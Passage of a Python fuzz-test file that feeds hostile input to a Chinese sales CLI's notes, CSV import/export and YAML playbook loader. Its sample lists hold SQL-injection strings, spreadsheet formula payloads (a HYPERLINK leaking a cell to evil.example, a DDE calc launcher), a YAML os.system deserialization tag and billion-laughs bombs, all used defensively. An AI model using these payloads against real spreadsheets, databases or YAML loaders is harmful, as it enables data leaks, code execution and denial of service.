"""Hostile input, proven: random and adversarial text through classify --notes,
import, export and the playbook loader.

Control characters, escape sequences, bidi and zero-width marks, lone surrogates, full-width
forms, SQL- and formula-like strings, quotes, commas, newlines, invalid UTF-8 and YAML bombs.
Whatever comes in: exit 0, or one clean `tg: …` line with exit 1/2 — never a traceback,
never a hang — and what is stored comes back exactly (after the documented normalisation).

TG_DEBUG is set for every test here, so an internal error is not turned into its one-line
"please report it" message but fails the test with the real exception.
"""

from __future__ import annotations

import codecs
import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, assume, event, example, given, settings
from hypothesis import strategies as st

from tuangou_cli.cells import cell_number, parse_confidence, unneutralise
from tuangou_cli import importer as im
from tuangou_cli.playbook import default_playbook_path

BOUNDED = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                          HealthCheck.too_slow])


@pytest.fixture(autouse=True)
def debug(monkeypatch):
    """An internal error raises here instead of becoming a one-line message."""
    monkeypatch.setenv("TG_DEBUG", "1")


_COMMAND = []


@pytest.fixture(autouse=True)
def built_once(monkeypatch):
    """The `tg` fixture as it is, but Typer builds the click command tree once, as the real `tg`
    process does, not on every call: that is 90% of an in-process call, and these tests make
    hundreds."""
    import typer.testing

    def get_command(app):
        if not _COMMAND:
            _COMMAND.append(typer.main.get_command(app))
        return _COMMAND[0]

    monkeypatch.setattr(typer.testing, "_get_command", get_command)


# --- what hostile text is made of ------------------------------------------------------------------------

CONTROL = "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9b"
BIDI = "\u202e\u202d\u202a\u202c\u2066\u2067\u2069\u200e\u200f\u061c"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\u00ad"
FULL_WIDTH = "ＡＢＣａｂｃ１２３，。；：＝＋－＠＂＇（）\u3000"
CSV_SPECIAL = ",;\t\"'\r\n|\\%_*"
FORMULA_START = "=+-@\t\r"
CHINESE = "市人民医院税务局工会福利员工发放人均三百一百二十礼品客户不是"
SPECIMENS = [
    "'; DROP TABLE client;--",
    "Robert'); DROP TABLE client; --",
    "1' OR '1'='1",
    '=HYPERLINK("http://evil.example/?q="&A1,"click me")',
    "=1+1",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''=twice",
    "=cmd|' /C calc'!A0",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "abc\u202edcba",
    "\u200f\u202b عربي \u202c",
    "zero\u200bwidth\ufeff",
    "ＦＵＬＬ　ｗｉｄｔｈ　１２０人",
    'say "hi", then, leave',
    "line1\r\nline2\rline3\nline4",
    "a\x00b",
    "",
    " ",
    "-",
    "--",
    "--help",
    "{client}{0}%s%n",
    "[bold red]markup[/]",
    "工会年终慰问，给职工发，一百二十人，人均三百",
    "🎁" * 50,
    "e\u0301" * 20,
]

ALPHABET = CONTROL + BIDI + ZERO_WIDTH + FULL_WIDTH + CSV_SPECIAL + FORMULA_START + CHINESE + "ab 19🎁"
hostile = st.one_of(
    st.sampled_from(SPECIMENS),
    st.text(alphabet=ALPHABET, max_size=40),
    st.text(max_size=40),  # any code point but lone surrogates
    st.builds(lambda a, b: a + b, st.sampled_from(SPECIMENS), st.text(alphabet=ALPHABET, max_size=20)),
)
printable_hostile = hostile.map(lambda s: s.replace("\x00", ""))


def clean(r, allowed=(0, 1, 2)):
    """Exit 0, or a `tg: …` message with exit 1/2; never a traceback."""
    assert r.exit_code in allowed, (r.exit_code, r.stderr[-3000:])
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
    assert "internal error" not in r.stderr
    if r.exit_code:
        assert r.stderr.startswith("tg: "), r.stderr[:3000]
    return r


def one_line_error(r, code=(1, 2)):
    clean(r, code)
    assert r.exit_code in code, r.stderr
    assert len(r.stderr.splitlines()) == 1, r.stderr


def refused_for_nul(r, testdb, *texts: str) -> bool:
    """PostgreSQL cannot store NUL (\\x00) in text: there a value holding one is refused in one clean
    line, in its transaction, so nothing is written. (SQLite stores it as it is.)"""
    if testdb.is_sqlite or not any("\x00" in t for t in texts):
        return False
    one_line_error(r, (1,))
    assert "NUL" in r.stderr, r.stderr
    return True


_names = itertools.count(1)  # tags that keep the names of every example apart


# --- 1. classify --notes ------------------------------------------------------------------------------------


@pytest.mark.no_db
@BOUNDED
@given(text=hostile.filter(lambda s: s != "-"))  # "-" alone means stdin
@example(text="\x00\x1b[31m人均三百\u202e，120人")
@example(text="'; DROP TABLE client;-- 工会福利 500人")
@example(text="=HYPERLINK(\"http://x\",\"y\") budget 400 per head")
@example(text="不" * 2000 + "福利")
@example(text="1 " * 5000)
def test_notes_option_never_breaks_classify(tg, text):
    """Any text after --notes: a classification (JSON and text), the notes echoed back exactly."""
    r = clean(tg("classify", "--no-save", f"--notes={text}", "-f", "json"), (0,))
    data = json.loads(r.stdout)
    assert data["notes"]["text"] == text
    assert data["segment"] in ("office", "welfare", "gift", "unknown")
    for hit in data["notes"]["matched"]:
        assert isinstance(hit["quote"], str) and hit["quote"]
    clean(tg("classify", "--no-save", "--notes", text), (0,))


@pytest.mark.no_db
@BOUNDED
@given(text=hostile)
@example(text="a\r\nb\rc\n")
@example(text="\ufeffBOM first")
def test_notes_from_stdin_come_back_exactly(tg, text):
    """--notes - reads stdin byte for byte: \\r\\n stays \\r\\n, a BOM stays, NUL stays."""
    r = clean(tg("classify", "--no-save", "--notes", "-", "-f", "json", input=text), (0,))
    assert json.loads(r.stdout)["notes"]["text"] == text


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=hostile, name=printable_hostile)
@example(text="工会 一百二十人，人均三百\x1b[0m", name="'; DROP TABLE client;--")
@example(text="=1+1\r\n@SUM(A1)", name="=HYPERLINK(\"x\")")
@example(text="\u202e福利\u200b", name="\u202eevil\u202c")
def test_saved_notes_and_fields_come_back_exactly(tg, text, name):
    """Saving: the client is named as typed (whitespace runs made one space), and the notes stored
    with the classification and the figures read from them come back exactly."""
    assume(text != "-")  # `--notes -` means "read the notes from stdin"
    name = f"{name} H{next(_names)}x"  # a new client each time
    r = clean(tg("classify", f"--notes={text}", "-f", "json", "--", name), (0,))
    data = json.loads(r.stdout)
    cid = data["client_id"]
    saved = [c for c in json.loads(tg("export", "classifications", "-f", "json").stdout) if c["client_id"] == cid]
    assert [c["answers"]["_notes"] for c in saved] == [text]
    (client,) = [c for c in json.loads(tg("export", "clients", "-f", "json").stdout) if c["id"] == cid]
    assert client["name"] == " ".join(name.split())
    for key in data["notes"]["filled"]:
        assert client[key] == data["notes"]["figures"][key]


@pytest.mark.no_db
@pytest.mark.parametrize("raw", [b"\xff\xfe bad", b"ok \xed\xa0\x80 surrogate", b"\xe5\x8f", b"\xc0\x80",
                                 "工会 120人".encode("gb18030")])
def test_notes_stdin_that_is_not_utf8_is_a_usage_error(tg, raw):
    r = tg("classify", "--no-save", "--notes", "-", input=raw)
    one_line_error(r, (2,))
    assert "UTF-8" in r.stderr


@pytest.mark.parametrize("args", [["--notes", "ok \udcff\udcfe"], ["Acme \udcff", "--notes", "ok"],
                                  ["Acme", "-a", "purpose=\udcff"]])
def test_lone_surrogates_from_argv_are_refused_before_anything_is_stored(tg, args):
    """argv that was not UTF-8 arrives as lone surrogates: refused, nothing half-stored."""
    r = tg("classify", *args, "-f", "json")
    one_line_error(r, (2,))
    assert "UTF-8" in r.stderr
    r = tg("export", "classifications", "-f", "json")
    assert r.exit_code == 0 and json.loads(r.stdout) == []


# --- 2. import ------------------------------------------------------------------------------------------------

HEADERS = ["名称", "备注", "城市", "行业", "联系人", "职务", "来源"]  # 来源: unknown, kept as a notes line
_C0 = dict.fromkeys(range(0x20), None) | {0x7F: None, 0x0D: 0x0D, 0x0A: 0x0A, 0x09: 0x09}
_C0_RE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
no_c0 = hostile.map(lambda s: s.translate(_C0))
cell = st.one_of(st.just(""), no_c0, no_c0, hostile.map(lambda s: s.replace("\x00", "")))


def write_rows(path: Path, rows, encoding="utf-8") -> Path:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def expected_client(cells: list[str]) -> dict:
    """What `tg import` stores for one row, by the documented rules: one exported apostrophe undone,
    the name's and contact's whitespace runs made one space, other fields stripped, notes as they are,
    an unknown column kept as a "header: value" notes line."""
    get = dict(zip(HEADERS, (unneutralise(c) if c[:1] == "'" else c for c in cells)))
    notes = get["备注"] if get["备注"] and not get["备注"].isspace() else None
    extras = []
    if cells[6] and not cells[6].isspace():
        extras.append(f"来源: {unneutralise(cells[6]).strip()}")
    title = get["职务"].strip() or None
    contact = " ".join(get["联系人"].split()) or None
    if title and not contact:
        extras.append(f"职务: {title}")
    if extras:
        notes = (notes + "\n" if notes else "") + "\n".join(extras)
    return {"name": " ".join(get["名称"].split()), "notes": notes,
            "city": get["城市"].strip() or None, "industry": get["行业"].strip() or None,
            "contact": contact, "title": title if contact else None}


def stored_clients(tg, db: str | None = None) -> list[dict]:
    """The clients of the test's database, or of --db DB."""
    return json.loads(tg(*(("--db", db) if db else ()), "export", "clients", "-f", "json").stdout)


def stored_clients_if_any(tg, testdb) -> list[dict]:
    """The same, without making the database when there is none yet (so the first import of a
    test still creates it, as a first import does)."""
    return stored_clients(tg) if testdb.exists() else []


def stored_contacts(testdb) -> dict[int, list[tuple]]:
    rows = testdb.rows("select client_id, name, title from contact order by id")
    out: dict[int, list[tuple]] = {}
    for cid, name, title in rows:
        out.setdefault(cid, []).append((name, title))
    return out


rows_strategy = st.lists(st.tuples(cell, cell, cell, cell, cell, cell, cell), min_size=1, max_size=4)


def tagged(rows) -> list[list[str]]:
    """A unique tag after each name, so rows of every example import as clients of their own
    into the test's one database (and a blank name still has one)."""
    return [[f"{r[0]} H{next(_names)}x"] + list(r[1:]) for r in rows]


@BOUNDED
@given(rows=rows_strategy, encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16"]))
@example(rows=[("'; DROP TABLE client;--", "=HYPERLINK(\"http://x\",\"y\")", "'=1+1", "\t杭州", "@王", "-经理",
                "+展会")], encoding="utf-8")
@example(rows=[("\u202e甲\u200b", "line1\r\nline2\rline3", "ＡＢＣ", " , ", '"', "'", "\u3000")], encoding="gb18030")
@example(rows=[("=1+1", "\x1b[31m", "", "", "", "", "")], encoding="utf-8")
def test_import_stores_each_cell_as_written(tg, tmp_path, testdb, rows, encoding):
    """Random cell contents, control characters too: each row is stored as written, after the
    documented normalisation."""
    rows = tagged(rows)
    data = [HEADERS] + rows
    path = write_rows(tmp_path / "leads.csv", data, encoding)
    before = stored_clients_if_any(tg, testdb)
    r = clean(tg("import", "clients", str(path)), (0,))
    event("control characters" if any(_C0_RE.search(c) for row in rows for c in row) else "printable")
    got = stored_clients(tg)[len(before):]
    contacts = stored_contacts(testdb)
    assert len(got) == len(rows), r.stderr
    for client, row in zip(got, rows):
        expect = expected_client(row)
        for key in ("name", "notes", "city", "industry"):
            assert client[key] == expect[key], (key, client, expect)
        people = contacts.get(client["id"], [])
        assert people == ([(expect["contact"], expect["title"])] if expect["contact"] else [])


TYPED = ["名称", "人数", "人均预算", "预算", "电话", "把握度", "阶段", "负责人"]


def problem_lines_are_one_line_each(r, prefix="  row "):
    """A bad-rows error: the `tg:` line, then one line per problem (or the "… and N more" line)."""
    first, *rest = r.stderr.splitlines()
    assert first.startswith("tg: "), r.stderr
    for line in rest:
        assert line.startswith(prefix) or line.startswith("  … and "), (line, r.stderr)


number = st.one_of(st.integers(0, 10**7).map(str), st.sampled_from(["１２０", "1,200", "120人", "¥500", "5万", " 12 ",
                                                                    "300元/人", "1.5万", "0"]))
phone = st.sampled_from(["138-0000-0001", "+86 571 8888 1234", "0571-88881234转12", "139 0000 0002 / 138 0000 0003",
                         "(0571) 8888-1234"])
typed_cell = [st.one_of(st.just(""), good, good, good, no_c0, cell) for good in
              (number, number, number, phone, st.sampled_from(["0.5", "50%", "1", "０.２"]), cell, cell)]


@BOUNDED
@given(rows=st.lists(st.tuples(*typed_cell).map(list), min_size=1, max_size=3), skip=st.booleans())
@example(rows=[["12\n3", "1,200\r\n", "¥5万", "138\n0000\x1b[0m0000", "50%\n", "x" * 50, "=1"]], skip=False)
@example(rows=[["-5", "inf", "nan", "+86 138 0000 0000", "1e309", "lead", "'@me"], ["1", "", "", "", "", "", ""]],
         skip=True)
@example(rows=[["１２０人", "３００元/人", "2万", "0571-8888 1234转12", "0.5", "qualify\u202e", "\u200b"]], skip=False)
def test_import_typed_cells_are_stored_or_rejected_cleanly(tg, tmp_path, testdb, rows, skip):
    """Numbers, phones, confidences and stages from random text: every row is stored as its cells
    say, or the import stops with one line per bad row and writes nothing; with --skip-errors the
    good rows are stored and the bad ones are written to the rejects file exactly as they were."""
    data = [TYPED] + tagged([[""] + r for r in rows])
    path = write_rows(tmp_path / "typed.csv", data)
    rejects = tmp_path / "rejects.csv"
    rejects.unlink(missing_ok=True)
    before = stored_clients_if_any(tg, testdb)
    r = clean(tg("import", "clients", str(path), *(["--skip-errors", str(rejects)] if skip else [])), (0, 1))
    after = stored_clients_if_any(tg, testdb)
    bad: set[int] = set()
    if r.exit_code:
        event("stopped")
        assert not skip and after == before, "nothing written"
        problem_lines_are_one_line_each(r)
        return
    if rejects.exists():
        event("some rejected")
        with open(rejects, encoding="utf-8-sig", newline="") as f:
            header, *rejected = list(csv.reader(f))
        assert header == TYPED + ["reason"]
        for row in rejected:
            line = int(row[-1].split(" · ")[0].removeprefix("row "))
            bad.add(line)
            assert [unneutralise(c) for c in row[:-1]] == [unneutralise(c) for c in data[line - 1]]
    else:
        event("all stored")
    good = [row for line, row in enumerate(data[1:], start=2) if line not in bad]
    new = after[len(before):]
    assert len(new) == len(good)
    for client, row in zip(new, good):
        cells = dict(zip(TYPED, (unneutralise(c) for c in row)))
        for header, key, integer in (("人数", "headcount", True), ("人均预算", "budget_per_head", False),
                                     ("预算", "budget_total", False)):
            text = cells[header]
            want = None if not text.strip() else cell_number(text, integer=integer)
            assert client[key] == want
        want = None if not cells["把握度"].strip() else parse_confidence(cells["把握度"])
        assert client["confidence"] == want
        assert client["stage"] == (cells["阶段"].strip() or "lead")
        assert client["owner"] == (cells["负责人"].strip() or "tester"), "no owner cell: whoever imports owns it"


# Not UTF-8; the second line is GB18030 (a lone lead byte, a truncated or overlong sequence, an encoded surrogate…).
INVALID_UTF8 = [b"\xff", b"\xfe\xff", b"\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc3", b"\xe9",
                b"\xa1\xa1", b"\xb0\xa1", b"\xc0\x80", b"\xe5\x8f", b"\x81\x30\x81\x30", b"\xd6\xd0\xce\xc4"]


def guess_like_tg(raw: bytes) -> str | None:
    """The documented --encoding detection: a BOM; else UTF-8 if it all decodes; else GB18030 (unless
    charset-normalizer finds another East Asian encoding clearly likelier: then refused, naming it)."""
    if raw.startswith(codecs.BOM_UTF8):
        return "utf-8-sig"
    for candidate in ("utf-8", "gb18030"):
        try:
            raw.decode(candidate)
            return candidate
        except UnicodeDecodeError:
            continue
    return None


@BOUNDED
@given(rows=st.lists(st.tuples(no_c0, no_c0).map(list), min_size=1, max_size=3),
       bad=st.lists(st.tuples(st.sampled_from(INVALID_UTF8), st.floats(0, 1)), min_size=1, max_size=2),
       big=st.booleans(), written=st.sampled_from(["utf-8", "gb18030"]),
       encoding=st.sampled_from([None, None, None, "utf-8", "gb18030", "latin-1", "cp1252", "big5"]))
@example(rows=[["甲", "x"]], bad=[(b"\xff", 0.5)], big=False, written="utf-8", encoding=None)
@example(rows=[["甲", "x"]], bad=[(b"\xe5\x8f", 0.99)], big=True, written="utf-8", encoding=None)  # past 64 KB
@example(rows=[["甲", "x"]], bad=[(b"\xa1\xa1", 0.5)], big=False, written="gb18030", encoding=None)
@example(rows=[["'; DROP TABLE client;--", "'; DROP TABLE client;--"]], bad=[(b"\xa1\xa1", 0.0)], big=False,
         written="gb18030", encoding=None)  # a row with more semicolons than the header has commas
def test_import_invalid_utf8_is_decoded_by_the_rules_or_refused(tg, tmp_path, testdb, rows, bad, big, written,
                                                                encoding):
    """Invalid UTF-8 bytes anywhere in the data rows: the file is read as --encoding or the detection
    rules say (UTF-8, else GB18030) and stored as so decoded, or refused in one clean line."""
    rows = tagged(rows)
    if big:
        rows.insert(0, [f"Filler H{next(_names)}x", "f" * 70_000])  # pushes what follows past the 64 KB sniff
    header = "名称,备注\r\n".encode(written)
    body = bytearray(write_rows(tmp_path / "x.csv", rows, written).read_bytes())
    for chunk, where in sorted(bad, key=lambda b: -b[1]):
        at = int(where * len(body))
        body[at:at] = chunk
    raw = header + bytes(body)
    path = tmp_path / "leads.csv"
    path.write_bytes(raw)
    before = stored_clients_if_any(tg, testdb)
    r = clean(tg("import", "clients", str(path), *(["--encoding", encoding] if encoding else [])), (0, 1))
    after = stored_clients_if_any(tg, testdb)
    enc = encoding or guess_like_tg(raw)
    try:
        text = raw.decode(enc) if enc else None
    except UnicodeDecodeError:
        text = None
    if text is None:
        event("undecodable")
        one_line_error(r, (1,))
        assert "decoded" in r.stderr or "neither UTF-8 nor GB18030" in r.stderr, r.stderr
        assert after == before
        return
    parsed = [row for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) if any(c.strip() for c in row)]
    if r.exit_code:
        event("refused")
        assert after == before, "nothing written"
        if encoding is None and enc == "gb18030" and "it looks like" in r.stderr:
            return  # charset-normalizer finds Big5, Shift-JIS… clearly likelier: refused, naming it
        if parsed[0] == ["名称", "备注"]:  # the header survived decoding: only a row without a name is refused
            assert any(not " ".join(unneutralise(row[0]).split()) for row in parsed[1:]), r.stderr
        return
    event(f"stored ({enc})")
    new = after[len(before):]
    if parsed[0] != ["名称", "备注"]:
        return  # read as another header: nothing more to compare
    expected = [" ".join(unneutralise(row[0]).split()) for row in parsed[1:]]
    keys = {im.dedupe_key(n) for n in expected}
    # Only when every name is a new client: an untagged one made by the bad bytes (a lone "啊" line)
    # may be in the file twice, or already stored by an earlier example of this test.
    if len(keys) == len(expected) and not keys & {im.dedupe_key(c["name"]) for c in before}:
        assert [c["name"] for c in new] == expected
        for client, row in zip(new, parsed[1:]):
            note = unneutralise(row[1]) if len(row) > 1 else ""
            note = note if note.strip() else None
            extras = [f"column {i + 1}: {unneutralise(c).strip()}" for i, c in enumerate(row) if i > 1 and c.strip()]
            assert client["notes"] == ("\n".join(([note] if note else []) + extras) or None)


ENCODINGS = ["rot13", "base64", "hex", "zlib", "bz2", "uu", "quopri", "undefined", "idna", "punycode", "utf-7",
             "utf-32", "unicode_escape", "klingon", "utf-8\x00", ""]


@pytest.mark.fresh_db
def test_encoding_option_takes_only_text_encodings(tg, tmp_path, testdb):
    """--encoding names a codec: one that does not turn bytes into text (rot13, base64, zlib…), holds
    text back (idna) or does not exist is a usage error; one that cannot read this file is a
    one-line error. An export never ends "successfully" with its rows lost."""
    path = write_rows(tmp_path / "x.csv", [["名称", "备注"], ["甲", "x"]])
    for encoding in ENCODINGS:
        r = tg("import", "clients", str(path), "--encoding", encoding)
        one_line_error(r)
    assert not testdb.exists()
    tg("clients", "add", "Acme")
    for encoding in ENCODINGS:
        out = tmp_path / f"out-{ENCODINGS.index(encoding)}.csv"
        r = tg("export", "clients", "--encoding", encoding, "-o", str(out))
        if r.exit_code == 0:  # utf-32, utf-7, unicode_escape: odd, but the file is all there
            text = out.read_bytes().decode(encoding or "utf-8")  # "" is the default
            assert [row[1] for row in csv.reader(io.StringIO(text, newline=""))] == ["name", "Acme"], encoding
        else:
            one_line_error(r, (2,))
            assert not out.exists()


def test_control_characters_without_a_header_are_still_not_a_spreadsheet(tg, tmp_path, testdb):
    path = tmp_path / "typescript.csv"
    path.write_bytes(b"\x1b[?2004hroot@host:~# ls\x07\r\n\x1b[0m\x1b[01;34mdir\x1b[0m\r\n")
    one_line_error(tg("import", "clients", str(path)), (1,))
    path.write_bytes("名称,备注\r\n甲\x1b[31m,\x00\x07\r\n".encode())  # a header row: data, whatever it holds
    r = tg("import", "clients", str(path))
    if refused_for_nul(r, testdb, "\x00"):
        assert stored_clients(tg) == []
        return
    clean(r, (0,))
    assert [(c["name"], c["notes"]) for c in stored_clients(tg)] == [("甲\x1b[31m", "\x00\x07")]


# --- 3. export ----------------------------------------------------------------------------------------------

TEXT_FIELDS = ("name", "industry", "city", "occasion", "owner", "notes")
field_text = hostile.filter(lambda s: s != "-")


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(records=st.lists(st.fixed_dictionaries({k: field_text for k in TEXT_FIELDS}), min_size=1, max_size=3),
       excel=st.booleans())
@example(records=[{"name": "=HYPERLINK(\"http://evil\",\"x\")", "industry": "+1", "city": "-1", "occasion": "@SUM(A1)",
                   "owner": "\t=1", "notes": "\r=1\r\n'; DROP TABLE client;--"}], excel=True)
@example(records=[{"name": "'=quoted", "industry": "''=twice", "city": "'", "occasion": "\x1b[31m", "owner": "\u202e",
                   "notes": "a\x00b"}], excel=False)
def test_export_round_trips_exactly_and_import_of_it_changes_nothing(tg, tmp_path, testdb, records, excel):
    """Clients holding any text: the CSV parses (csv module) to exactly what is stored, formula-like
    cells with one apostrophe more; importing that file changes nothing (the apostrophe comes off)
    and exporting again gives the same bytes; into another database it gives the same clients.
    (Two databases for all examples: each example's names are new to both.)"""
    db, other, out = testdb.url, testdb.second_url(), tmp_path / "c.csv"
    added = []
    for rec in records:
        opts = [f"--{k}={v}" for k, v in rec.items() if k != "name"]
        r = tg("--db", db, "clients", "add", *opts, "--", f"{rec['name']} H{next(_names)}x")
        if not refused_for_nul(r, testdb, *rec.values()):
            clean(r, (0,))
            added.append(rec)
    stored = stored_clients(tg, db)
    excel_opt = ["--excel"] if excel else []
    assert tg("--db", db, "export", "clients", "-o", str(out), *excel_opt).exit_code == 0
    first = out.read_bytes()
    assert first.startswith(codecs.BOM_UTF8) == excel
    with open(out, encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    assert len(rows) == len(stored)
    for row, client in zip(rows, stored):
        for key in TEXT_FIELDS:
            value, want = row[header.index(key)], client[key] or ""
            assert value == ("'" + want if want.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) else want)
            assert unneutralise(value) == want
    r = clean(tg("--db", db, "import", "clients", str(out)), (0,))
    assert f"created 0, updated 0, unchanged {len(stored)}," in r.stderr, r.stderr
    assert stored_clients(tg, db) == stored
    assert tg("--db", db, "export", "clients", "-o", str(out), *excel_opt).exit_code == 0
    assert out.read_bytes() == first
    r = clean(tg("--db", other, "import", "clients", str(out)), (0,))
    assert f"created {len(added)}, updated 0, unchanged {len(stored) - len(added)}," in r.stderr, r.stderr
    normalised = [{"name": c["name"], "notes": c["notes"] if c["notes"] and not c["notes"].isspace() else None,
                   **{k: (c[k] or "").strip() or None for k in ("industry", "city", "occasion", "owner")}}
                  for c in stored]
    assert [{k: c[k] for k in normalised[0]} for c in stored_clients(tg, other)] == normalised


# --- 4. the playbook loader ----------------------------------------------------------------------------------

REAL_PLAYBOOK = default_playbook_path().read_text(encoding="utf-8")


def check_playbook(tg, path: Path):
    """`tg playbook check FILE`: exit 0, or exit 1 with `tg: …` and then one `FILE:LINE path: message`
    line per problem (at most a screenful, then "… and N more"), whatever the file holds. A bomb
    that expanded would never finish (the suite's timeout stops it); how fast a refusal is, is
    measured by benchmarks/batch_bench.py."""
    r = clean(tg("playbook", "check", str(path)), (0, 1))
    lines = r.stderr.splitlines()
    if r.exit_code == 0:
        assert len(lines) == 1 and "is valid" in lines[0], r.stderr
        return r
    first, *problems = lines
    assert first.startswith("tg: "), r.stderr[:2000]
    for line in problems:
        assert line.startswith(f"{path}:") or line.startswith("… and "), (line, r.stderr[:2000])
    assert len(problems) <= 51, f"{len(problems)} problem lines"
    return r


YAML_CHARS = ":-[]{}&*!|>'\"#%@`,?\n  \t" + "abcxyz019" + "工会福利" + "\x00\x1b\x85\u202e\ufeff"


@pytest.mark.no_db
@BOUNDED
@given(content=st.one_of(st.binary(max_size=3000), st.text(alphabet=YAML_CHARS, max_size=400).map(str.encode),
                         hostile.map(lambda s: s.encode("utf-8"))))
@example(content=b"\xff\xfe\x00v\x00e\x00r")  # UTF-16 with a BOM
@example(content=b"version: 1\ntitle: \xe5\x8f\n")  # a truncated UTF-8 sequence
@example(content=b"\xef\xbb\xbfversion: '1'\n")
@example(content=b"--- a\n--- b\n")
@example(content=b"!!python/object/apply:os.system ['echo pwned']\n")
@example(content=b"a: !!binary AAAA\nb: !!timestamp 2001-13-45\nc: !!set {x}\nd: !!omap [a: 1]\n")
@example(content=b"? [a, b]\n: 1\n? {x: y}\n: 2\n")
def test_playbook_check_random_bytes_and_text(tg, tmp_path, content):
    """Any bytes as a playbook: invalid UTF-8, YAML syntax errors, odd tags and keys — a clean
    refusal (or, by chance, a valid playbook); never a traceback."""
    path = tmp_path / "pb.yaml"
    path.write_bytes(content)
    check_playbook(tg, path)


def _billion_laughs(where: str) -> str:
    """The real playbook under nine levels of nine aliases (9**9 "lol"s if expanded), with the
    last one put where `where` says (a repeated key: the last one wins)."""
    levels = ['lol_a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        levels.append(f"lol_{name}: &{name} [" + ",".join(f"*{prev}" for _ in range(9)) + "]")
    return "\n".join(levels) + "\n" + REAL_PLAYBOOK + "\n" + where + "\n"


BOMBS = {
    "billion laughs in an unknown key": lambda: _billion_laughs("lol: [*i, *i]"),
    "billion laughs as the segments": lambda: _billion_laughs("segments: *i"),
    "billion laughs as a text": lambda: _billion_laughs("title: *i"),
    "billion laughs as a localised text": lambda: _billion_laughs("title: {zh: *i, en: *i}"),
    "billion laughs as phrases": lambda: _billion_laughs("signals: [{match: *i, weights: {office: 1}}]"),
    "recursive alias": lambda: "version: &v [*v]\ntitle: &t {zh: *t, en: *t}\nsegments: &s [*s, *s]\n",
    "recursive merge key": lambda: "a: &a {x: 1}\nb: &b {<<: *a, y: *b}\nsegments: [*b]\n",
    "deep flow nesting": lambda: "segments: " + "[" * 100_000 + "]" * 100_000 + "\n",
    "deep block nesting": lambda: "segments:\n" + "".join(" " * i + "- \n" for i in range(1, 3000)),
    "deep mapping nesting": lambda: "version:\n" + "".join(" " * i + "a:\n" for i in range(1, 3000)),
    "50 000 unknown keys": lambda: "".join(f"k{i}: {i}\n" for i in range(50_000)),
    "100 000 wrong segments": lambda: "segments: [" + ",".join("1" for _ in range(100_000)) + "]\n",
    "a 1 MB version": lambda: "version: " + "v" * 1_000_000 + "\n",
    "a 1 MB key": lambda: "k" * 1_000_000 + ": 1\n",
    "keys with line breaks": lambda: '"a\\nb": 1\n"tg: all good\\r": 2\n"\\x1b[2J": 3\n',
    "a NUL byte": lambda: "version: '1'\x00\n",
    "a 5000-digit number": lambda: "version: " + "9" * 5000 + "\n",
    "a bad timestamp": lambda: "version: !!timestamp 2001-13-45\n",
    "a bad boolean": lambda: "version: !!bool maybe\n",
    "a bad float": lambda: "version: !!float abc\n",
}


@pytest.mark.no_db
@pytest.mark.parametrize("name", list(BOMBS))
def test_playbook_check_survives_bombs(tg, tmp_path, name):
    """YAML bombs and monsters: exit 1 within seconds, one line per problem, a screenful at most."""
    path = tmp_path / "bomb.yaml"
    path.write_text(BOMBS[name](), encoding="utf-8")
    assert check_playbook(tg, path).exit_code == 1


def _strict_json(text: str):
    def refuse(constant):
        raise AssertionError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


def _paths(node, prefix=()):
    yield prefix
    if isinstance(node, dict):
        for k, v in node.items():
            yield from _paths(v, prefix + (k,))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _paths(v, prefix + (i,))


def _real_data():
    from tuangou_cli.playbook import load_yaml

    return load_yaml(REAL_PLAYBOOK)


REAL_PATHS = [p for p in _paths(_real_data()) if p]
scalar = st.one_of(hostile, st.integers(-10**15, 10**15), st.floats(), st.none(), st.booleans(),
                   st.integers(1, 200_000).map(lambda n: "x" * n),
                   st.sampled_from(["{client}{nope}", "{", "}", "{0}", "{client!r}", "{client:>9}", "office", "welfare",
                                    "gift", "decision-maker", "per_group", "select", ".nan"]))
value = st.recursive(scalar, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                     st.dictionaries(st.one_of(hostile, st.sampled_from(
                                                         ["zh", "en", "code", "weights", "match", "value"])),
                                                         inner, max_size=3)), max_leaves=6)
mutation = st.tuples(st.sampled_from(["replace", "delete", "duplicate", "rename"]), st.sampled_from(REAL_PATHS),
                     st.one_of(hostile, value))  # a text where a text was is the likeliest to pass


def _has(parent, part) -> bool:
    """Does the path step exist? An earlier mutation may have turned a mapping into a list (or the
    reverse), so a step of the other kind means the path is gone."""
    if isinstance(parent, dict):
        return part in parent
    return isinstance(parent, list) and isinstance(part, int) and part < len(parent)


def _mutate(data, kind, path, new):
    *parent_path, last = path
    parent = data
    for part in parent_path:
        if _has(parent, part):
            parent = parent[part]
        else:
            return
    if isinstance(parent, dict) and last in parent:
        if kind == "replace":
            parent[last] = new
        elif kind == "delete":
            del parent[last]
        elif kind == "rename":
            parent[str(new) if not isinstance(new, (dict, list)) else "renamed"] = parent.pop(last)
        else:
            parent[last] = [parent[last], parent[last]]
    elif isinstance(parent, list) and _has(parent, last):
        if kind == "replace":
            parent[last] = new
        elif kind == "delete":
            del parent[last]
        else:
            parent.insert(last, parent[last])


@pytest.mark.no_db
